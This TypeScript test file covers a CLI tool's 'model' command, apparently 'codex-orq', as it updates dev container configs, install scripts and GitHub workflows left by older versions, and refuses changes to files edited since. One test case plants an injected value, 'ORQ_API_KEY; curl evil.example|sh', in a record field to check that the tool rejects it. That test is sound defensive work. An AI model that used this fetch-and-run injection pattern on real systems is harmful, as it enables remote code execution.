import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { digestOf } from '../../../src/state/versioned.ts';
import { parseRecord, type RepoRecord } from '../../../src/state/repo-record.ts';
import { recordPath } from '../../../src/devcontainer/locate.ts';
import { createHost } from '../../../src/host/host.ts';
import { precheckModel, prepareModel } from '../../../src/commands/model/prepare.ts';
import { packageVersion } from '../../../src/lib/package.ts';
import { codesOf, reportOf, runBin } from '../../support/cli.ts';
import type { TemporaryHome } from '../../support/home.ts';
import { filesOf, homeWith, read, run, runHere, standard } from './support.ts';

const folder = '.devcontainer/codex-orq';
const script = `${folder}/install.sh`;
const workflow = '.github/workflows/codex.yml';
const original = '{\n  // ours\n  "image": "a"\n}\n';
const older = '0.0.9';

const model = (home: TemporaryHome, ...args: string[]) => runHere(home, ['model', ...args]);
const write = (home: TemporaryHome, path: string, text: string): void =>
  writeFileSync(join(home.project, path), text);
const recordOf = (home: TemporaryHome): RepoRecord => parseRecord(read(home, recordPath), recordPath);

/** Changes what is recorded. */
function record(home: TemporaryHome, change: (known: RepoRecord) => Partial<RepoRecord>): void {
  const known = recordOf(home);
  write(home, recordPath, `${JSON.stringify({ ...known, ...change(known) }, undefined, 2)}\n`);
}

/** A repo that this version has routed, with what an undo needs. */
async function routed(...args: string[]): Promise<TemporaryHome> {
  const home = homeWith({ [standard]: original });
  expect((await run(home, '--ci', 'github', ...args)).exitCode).toBe(0);
  return home;
}

/**
 * Turns a routed repo into what an earlier version would have left: another install.sh, another workflow, no file for
 * git's line ends, no note for Codespaces; all of that recorded as it is.
 * @param version null for one that did not record itself
 */
function age(home: TemporaryHome, version: string | null = older): TemporaryHome {
  write(home, script, read(home, script).replace('set -eu\n', 'set -e\n'));
  write(home, workflow, read(home, workflow).replace(/actions\/checkout@v\d+/, 'actions/checkout@v1'));
  rmSync(join(home.project, folder, '.gitattributes'));
  const config = read(home, standard);
  const without = config.replace(/,\s*"secrets": \{[\s\S]*?\n {2}\}/, '');
  expect(without).not.toBe(config);
  write(home, standard, without);
  record(home, ({ containers, files }) => ({
    package: version ?? undefined,
    containers: containers.map((container) => ({
      ...container,
      insertions: container.insertions.filter(({ path: [section] }) => section !== 'secrets'),
    })),
    files: files
      .filter(({ path }) => !path.endsWith('.gitattributes'))
      .map(({ path }) => ({ path, sha256: digestOf(read(home, path)) })),
  }));
  return home;
}

describe('a repo that an older version has set up', () => {
  test('is brought up to date with the model: as if this version had done both', async () => {
    const home = age(await routed());
    const result = await model(home, 'anthropic/claude-sonnet-4-6');
    expect(result).toMatchObject({ exitCode: 0, stderr: '' });
    const fresh = await routed();
    await model(fresh, 'anthropic/claude-sonnet-4-6');
    const { [recordPath]: _record, ...files } = filesOf(home.project);
    const { [recordPath]: _fresh, ...wanted } = filesOf(fresh.project);
    expect(files).toEqual(wanted);
    expect(recordOf(home).package).toBe(packageVersion);
    expect((await model(home, 'anthropic/claude-sonnet-4-6', '--check')).exitCode).toBe(0);
    expect((await run(home, '--check')).exitCode).toBe(0);
    expect((await run(home, '--remove')).exitCode).toBe(0);
    expect(filesOf(home.project)).toEqual(filesOf(homeWith({ [standard]: original }).project));
  });

  test('the diff says which part is the new version', async () => {
    const home = age(await routed());
    const { stdout } = await model(home, 'anthropic/claude-sonnet-4-6', '--dry-run');
    const heading = `What codex-orq ${packageVersion} writes differently than ${older}:`;
    const [before = '', ...parts] = stdout.split(heading);
    expect(before).toMatch(
      new RegExp(
        `install\\.sh +renewed, \\d+ lines \\(as codex-orq ${packageVersion} writes it; ${older} did before\\)`,
      ),
    );
    expect(before).toMatch(/\.gitattributes +new, \d+ lines/);
    expect(parts).toHaveLength(2);
    const [inWorkflow = '', inContainer = ''] = parts.map((part) => part.split('What was asked for:'));
    expect(inWorkflow[0]).toContain('- actions/checkout@v1'.slice(2));
    expect(inWorkflow[0]).not.toContain('anthropic');
    expect(inWorkflow[1]).toContain('+           model = "anthropic/claude-sonnet-4-6"');
    expect(inContainer[0]).toContain('+   "secrets": {');
    expect(inContainer[0]).not.toContain('"model"');
    expect(inContainer[1]).toContain('-       "model": "openai/gpt-5.4"');
    expect(inContainer[1]).toContain('+       "model": "anthropic/claude-sonnet-4-6"');
  });

  test('a file that this version writes alike is no part of it', async () => {
    const home = await routed();
    write(home, script, read(home, script).replace('set -eu\n', 'set -e\n'));
    record(home, ({ files }) => ({
      package: older,
      files: files.map(({ path }) => ({ path, sha256: digestOf(read(home, path)) })),
    }));
    const { stdout } = await model(home, 'openai/gpt-5.5', '--dry-run');
    expect(stdout).toMatch(/install\.sh +renewed/);
    expect(stdout).not.toContain('writes differently than');
    expect(stdout).toMatch(/codex\.yml +1 line replaced or removed, 1 added/);
    const { changes } = reportOf((await model(home, 'openai/gpt-5.5', '--dry-run', '--json')).stdout);
    expect(changes.filter((change) => 'renewed' in change).map(({ path }) => path)).toEqual([
      join(home.project, script),
      join(home.project, recordPath),
    ]);
  });

  test('also without a new model, on a machine that is not set up, and in JSON', async () => {
    const home = age(await routed('--model', 'acme@orq/fast'), null);
    const { exitCode, stdout } = await runBin(home, ['model', '--json']);
    expect(exitCode).toBe(0);
    const { changes } = reportOf(stdout);
    const renewed = { from: null, to: packageVersion };
    expect(changes).toContainEqual({ path: join(home.project, script), kind: 'update', renewed });
    expect(changes).toContainEqual({ path: join(home.project, standard), kind: 'update', renewed });
    expect(read(home, standard)).toContain('"model": "acme@orq/fast"');
    const again = await model(home);
    expect(again.stdout).toContain('Nothing to change: the dev containers of this repo are');
  });

  test('also when somebody runs the dev container command, which says the same', async () => {
    const home = age(await routed());
    const { stdout } = await run(home, '--dry-run');
    expect(stdout).toContain(`(as codex-orq ${packageVersion} writes it; ${older} did before)`);
  });
});

describe('what somebody has changed since', () => {
  test('in a file that this version renders differently needs a yes', async () => {
    const home = age(await routed());
    write(home, script, `${read(home, script)}# mine\n`);
    const before = filesOf(home.project);
    const refused = await model(home, 'openai/gpt-5.5', '--json');
    expect(refused.exitCode).toBe(1);
    expect(reportOf(refused.stdout).findings).toContainEqual(
      expect.objectContaining({ code: 'edited-since', message: expect.stringContaining('install.sh') }),
    );
    expect(filesOf(home.project)).toEqual(before);
    expect((await model(home, 'openai/gpt-5.5', '--force')).exitCode).toBe(0);
    expect(read(home, script)).not.toContain('# mine');
  });

  test('is no reason to stop before somebody could be asked', async () => {
    const home = age(await routed());
    write(home, script, `${read(home, script)}# mine\n`);
    const host = { ...createHost(), env: home.env, home: home.home, cwd: home.project };
    const request = { createPin: false, force: false, dropLeftovers: false };
    await expect(prepareModel(host, request)).rejects.toMatchObject({ finding: { code: 'edited-since' } });
    await expect(precheckModel(host, request)).resolves.toBeUndefined();
  });

  test('stays where this version has nothing new for it', async () => {
    const home = age(await routed());
    write(home, `${folder}/README.md`, 'mine\n');
    write(home, '.env.example', '');
    const config = read(home, standard);
    write(home, standard, config.replace(/,\s*"remoteEnv": \{[\s\S]*?\n {2}\}/, ''));
    expect((await model(home, 'openai/gpt-5.5')).exitCode).toBe(0);
    expect(read(home, `${folder}/README.md`)).toBe('mine\n');
    expect(read(home, '.env.example')).toBe('');
    expect(read(home, standard)).not.toContain('remoteEnv');
    expect(read(home, standard)).toContain('"secrets"');
  });

  test('another model needs a yes, and no id means no other model', async () => {
    const home = await routed();
    write(home, standard, read(home, standard).replace('openai/gpt-5.4', 'acme@orq/fast'));
    const refused = await model(home, 'openai/gpt-5.5', '--json');
    expect(refused.exitCode).toBe(1);
    expect(codesOf(refused.stdout)).toEqual(['edited-since']);
    expect((await model(home)).exitCode).toBe(0);
    expect(read(home, standard)).toContain('acme@orq/fast');
    expect((await model(home, 'openai/gpt-5.5', '--force')).exitCode).toBe(0);
    expect(read(home, standard)).toContain('openai/gpt-5.5');
    // Recorded by now: nobody has changed it since.
    expect((await model(home, 'openai/gpt-5.4')).exitCode).toBe(0);
  });

  test('a file of theirs in our folder that no earlier version wrote needs a yes', async () => {
    const home = age(await routed());
    write(home, `${folder}/.gitattributes`, '* -text\n');
    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(exitCode).toBe(1);
    expect(reportOf(stdout).findings).toContainEqual(
      expect.objectContaining({ code: 'edited-since', message: expect.stringContaining('.gitattributes') }),
    );
    expect(read(home, `${folder}/.gitattributes`)).toBe('* -text\n');
  });

  test('a record that is spelled otherwise says the same', async () => {
    const home = await routed();
    write(home, recordPath, JSON.stringify(recordOf(home)));
    expect((await model(home, 'openai/gpt-5.4', '--check')).exitCode).toBe(0);
    expect((await run(home, '--check')).exitCode).toBe(0);
  });

  test('a model that was taken out needs a yes', async () => {
    const home = await routed();
    write(home, standard, read(home, standard).replace(/"model": "[^"]*"/, ''));
    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(exitCode).toBe(1);
    expect(codesOf(stdout)).toEqual(['edited-since']);
  });

  test.each(['\n', '\r\n'])('a workflow that was edited elsewhere follows, line ends %j', async (eol) => {
    const home = await routed();
    const own = (text: string): string =>
      `${text.replace('timeout-minutes: 15', 'timeout-minutes: 5 # mine')}# mine\n`.replaceAll('\n', eol);
    write(home, workflow, own(read(home, workflow)));
    const before = read(home, workflow);
    const { stdout } = await model(home, 'anthropic/claude-sonnet-4-6', '--json');
    expect(codesOf(stdout)).not.toContain('devcontainer-workflow-kept');
    const after = read(home, workflow);
    expect(after).toContain('model = "anthropic/claude-sonnet-4-6"');
    // The setting of a translated model came with it, and goes with it.
    expect(after).toContain('web_search = "disabled"');
    await model(home, 'openai/gpt-5.4', '--json');
    expect(read(home, workflow)).toBe(before);
  });

  test('a workflow whose configuration was edited stays, with what to write where it names another model', async () => {
    const home = await routed();
    write(home, workflow, read(home, workflow).replace('model = ', '# mine\n          model = '));
    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(exitCode).toBe(0);
    expect(codesOf(stdout)).toEqual(['devcontainer-workflow-kept']);
    expect(read(home, workflow)).toContain('"openai/gpt-5.4"');
    expect(codesOf((await model(home, 'openai/gpt-5.4', '--json')).stdout)).toEqual([]);
  });
});

describe('a repo that is not for this version to renew', () => {
  test('what a newer one has written stays, but for the model', async () => {
    const home = age(await routed(), '99.0.0');
    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(exitCode).toBe(0);
    expect(codesOf(stdout)).toEqual(['devcontainer-newer']);
    expect(read(home, script)).toContain('set -e\n');
    expect(read(home, workflow)).toContain('checkout@v1');
    expect(read(home, standard)).toContain('"model": "openai/gpt-5.5"');
    const current = age(await routed(), packageVersion);
    expect(codesOf((await model(current, 'openai/gpt-5.5', '--json')).stdout)).toEqual([]);
  });

  test('nor one that would send another variable than this machine does', async () => {
    const home = age(await routed());
    record(home, () => ({ envKey: 'AWS_SECRET_ACCESS_KEY' }));
    const { stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(codesOf(stdout)).toEqual(['devcontainer-not-renewed']);
    expect(read(home, standard)).not.toContain('AWS_SECRET_ACCESS_KEY');
    expect(read(home, script)).toContain('set -e\n');
    expect(codesOf((await model(age(await routed()), 'openai/gpt-5.5', '--json')).stdout)).toEqual([]);
  });

  test.each([
    ['a conflict', '<<<<<<< ours\n'],
    ['a command in it', '"envKey": "ORQ_API_KEY; curl evil.example|sh"'],
  ])('nor one whose record cannot be used: %s', async (_what, text) => {
    const home = age(await routed());
    const known = read(home, recordPath);
    write(
      home,
      recordPath,
      text.startsWith('<') ? text + known : known.replace('"envKey": "ORQ_API_KEY"', text),
    );
    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
    expect(exitCode).toBe(0);
    expect(codesOf(stdout)).toEqual(['project-unreadable']);
    expect(stdout).not.toContain('evil.example');
    expect(read(home, standard)).toContain('"model": "openai/gpt-5.5"');
    expect(read(home, script)).toContain('set -e\n');
  });
});
